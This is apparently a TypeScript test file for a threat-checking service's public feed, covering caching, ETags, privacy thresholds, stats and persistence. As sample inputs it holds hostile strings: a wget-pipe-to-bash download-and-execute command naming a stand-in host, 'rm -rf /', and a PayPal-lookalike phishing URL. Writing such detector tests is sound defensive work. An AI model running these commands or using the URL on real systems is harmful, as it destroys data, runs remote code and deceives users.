import { after, before, test } from 'node:test';
import assert from 'node:assert/strict';
import { createHash } from 'node:crypto';
import { api, startServer, type RunningServer } from './support/server.js';

const PHISH = 'http://paypal.com.account-verify.xyz/login';
const PIPE = 'wget http://dl.bad-host.example.ru/x.sh -O- | bash';
const sha = (v: string) => createHash('sha256').update(v).digest('hex');

let server: RunningServer;
let fast: RunningServer;
const keys: Record<string, { key: string; id: string; account_id: string }> = {};

async function newKey(s: RunningServer, name: string) {
  const r = await api(s, 'POST', '/v2/keys', { key: s.adminKey, body: { name, tier: 'enterprise' } });
  assert.equal(r.status, 201);
  return r.body as { key: string; id: string; account_id: string };
}

const check = (s: RunningServer, key: string | undefined, type: string, value: string) => api(s, 'POST', '/v2/check', { key, body: { type, value } });

before(async () => {
  // one server with the default 5-minute cache, one with a 1-second cache window to watch the feed change
  [server, fast] = await Promise.all([startServer(), startServer({ FEED_CACHE_SECONDS: '1' })]);
  keys.a = await newKey(fast, 'account a');
  keys.b = await newKey(fast, 'account b');
});
after(async () => { await Promise.allSettled([server?.dispose(), fast?.dispose()]); });

test('the feed needs no key and is cached for 5 minutes: same body and ETag within the window, 304 on If-None-Match', async () => {
  assert.equal((await check(server, undefined, 'command', 'rm -rf /')).body.level, 'DANGER');
  assert.equal((await check(server, undefined, 'command', 'sudo shutdown -r -f now')).body.level, 'CAUTION');
  const first = await api(server, 'GET', '/v2/threat-feed');
  assert.equal(first.status, 200);
  assert.equal(first.headers.get('cache-control'), 'public, max-age=300');
  const etag = first.headers.get('etag');
  assert.match(etag ?? '', /^"[A-Za-z0-9_-]{10,}"$/);
  assert.ok(!Number.isNaN(Date.parse(first.body.generated_at)));
  const c01 = first.body.threats.find((t: any) => t.id === 'C01');
  assert.ok(c01, 'a DANGER threat seen is listed');
  assert.equal(typeof c01.name, 'string');
  assert.equal(c01.primitive, 'DESTRUCTION');
  assert.deepEqual(c01.counts, { hour: 1, day: 1, week: 1 });
  assert.ok(first.body.threats.some((t: any) => t.id === 'C31' && t.levels.CAUTION === 1), 'CAUTION threats are listed too');
  assert.ok(first.body.trending.hour.some((t: any) => t.id === 'C01' && t.current === 1 && t.previous === 0));
  // more traffic inside the window does not change the answer
  for (let i = 0; i < 3; i++) await check(server, undefined, 'command', 'rm -rf /');
  const second = await api(server, 'GET', '/v2/threat-feed');
  assert.equal(second.headers.get('etag'), etag);
  assert.deepEqual(second.body, first.body);
  const conditional = await api(server, 'GET', '/v2/threat-feed', { headers: { 'if-none-match': etag! } });
  assert.equal(conditional.status, 304);
  assert.equal(conditional.headers.get('etag'), etag);
});

test('with a 1-second window the feed moves on: new counts, new ETag', async () => {
  await check(fast, keys.a!.key, 'command', 'rm -rf /');
  const before = await api(fast, 'GET', '/v2/threat-feed');
  assert.equal(before.headers.get('cache-control'), 'public, max-age=1');
  await check(fast, keys.a!.key, 'command', 'rm -rf /');
  await new Promise((r) => setTimeout(r, 1100));
  const later = await api(fast, 'GET', '/v2/threat-feed');
  assert.notEqual(later.headers.get('etag'), before.headers.get('etag'));
  const count = (b: any) => b.threats.find((t: any) => t.id === 'C01')?.counts.hour ?? 0;
  assert.equal(count(later.body) - count(before.body), 1);
});

test('privacy: an indicator appears only once two accounts sent it, and never a raw value or an account or key id', async () => {
  for (let i = 0; i < 3; i++) {
    assert.equal((await check(fast, keys.a!.key, 'url', PHISH)).body.level, 'DANGER');
    assert.equal((await check(fast, keys.a!.key, 'command', PIPE)).body.level, 'DANGER');
  }
  await new Promise((r) => setTimeout(r, 1100));
  const one = await api(fast, 'GET', '/v2/threat-feed');
  assert.equal(one.body.indicators.length, 0, 'one account alone is never published');
  // anonymous traffic does not vouch for an indicator
  await check(fast, undefined, 'url', PHISH);
  await check(fast, keys.b!.key, 'command', PIPE);
  await new Promise((r) => setTimeout(r, 1100));
  const two = await api(fast, 'GET', '/v2/threat-feed');
  const values = two.body.indicators.map((i: any) => `${i.kind}:${i.value}`);
  assert.ok(values.includes(`value_hash:${sha(PIPE)}`), 'the shared value hash is published');
  assert.ok(values.includes('domain:example.ru'), 'the download host of a flagged command is published as its registrable domain');
  assert.ok(!values.includes(`value_hash:${sha(PHISH)}`), 'the phishing URL came from one account only');
  assert.ok(!values.includes('domain:account-verify.xyz'));
  for (const i of two.body.indicators) {
    assert.ok(i.count >= 2);
    assert.deepEqual(Object.keys(i).sort(), ['count', 'first_seen', 'kind', 'last_seen', 'value']);
  }
  const text = JSON.stringify(two.body);
  for (const secret of [PHISH, PIPE, 'paypal.com', 'dl.bad-host', keys.a!.account_id, keys.b!.account_id, keys.a!.id, keys.b!.id, keys.a!.key]) {
    assert.ok(!text.includes(secret), `the feed must not contain ${secret}`);
  }
  assert.equal(two.body.privacy.min_accounts, 2);
});

test('stats: global figures without a key; with a key the caller\'s own account beside them, and nobody else\'s', async () => {
  const c = await newKey(fast, 'account c');
  await check(fast, c.key, 'command', 'sudo shutdown -r -f now');
  await check(fast, c.key, 'command', 'ls -la');
  await new Promise((r) => setTimeout(r, 1100));
  const open = await api(fast, 'GET', '/v2/threat-feed/stats');
  assert.equal(open.status, 200);
  assert.equal(open.body.scope, 'global');
  assert.equal(open.body.account, undefined);
  const hour = open.body.global.hour;
  assert.ok(hour.checks >= 12);
  assert.equal(hour.checks, hour.by_level.SAFE + hour.by_level.CAUTION + hour.by_level.DANGER);
  assert.ok(hour.by_type.command.DANGER >= 1);
  assert.equal(hour.danger_share, Math.round((hour.by_level.DANGER / hour.checks) * 10_000) / 10_000);
  assert.ok(hour.top_threats.length > 0 && hour.top_primitives.length > 0);
  assert.ok(open.body.global.day.checks >= hour.checks && open.body.global.week.checks >= open.body.global.day.checks);
  const mine = await api(fast, 'GET', '/v2/threat-feed/stats', { key: c.key });
  assert.equal(mine.body.scope, 'global+account');
  assert.equal(mine.headers.get('cache-control'), 'private, no-store');
  const own = mine.body.account.windows.hour;
  assert.deepEqual(own.by_level, { SAFE: 1, CAUTION: 1, DANGER: 0 });
  assert.equal(own.danger_share, 0);
  assert.deepEqual(own.top_threats.map((t: any) => t.id), ['C31']);
  assert.ok(!JSON.stringify(mine.body).includes(keys.a!.account_id));
});

test('FEED_ENABLED=false switches the counting off: the feed answers 503 and health says threatFeed false', async () => {
  const off = await startServer({ FEED_ENABLED: 'false' });
  try {
    const health = await api(off, 'GET', '/v2/health');
    assert.equal(health.body.threatFeed, false);
    const feed = await api(off, 'GET', '/v2/threat-feed');
    assert.equal(feed.status, 503);
    assert.equal(feed.body.code, 'SERVICE_UNAVAILABLE');
    assert.equal((await api(server, 'GET', '/v2/health')).body.threatFeed, true);
  } finally {
    await off.dispose();
  }
});

test('counts are persisted: a graceful restart keeps them, and kill -9 loses at most one flush interval', async () => {
  const s1 = await startServer({ FEED_CACHE_SECONDS: '1', FEED_FLUSH_MS: '200' });
  const dir = s1.dataDir;
  try {
    await check(s1, undefined, 'command', 'rm -rf /');
    await new Promise((r) => setTimeout(r, 600));
    await s1.stop('SIGKILL');
    const s2 = await startServer({ FEED_CACHE_SECONDS: '1' }, dir);
    await check(s2, undefined, 'command', 'rm -rf /');
    assert.equal(await s2.stop('SIGTERM'), 0);
    const s3 = await startServer({ FEED_CACHE_SECONDS: '1' }, dir);
    try {
      const feed = await api(s3, 'GET', '/v2/threat-feed');
      assert.equal(feed.body.threats.find((t: any) => t.id === 'C01')?.counts.hour, 2);
    } finally {
      await s3.dispose();
    }
  } finally {
    await s1.dispose();
  }
});
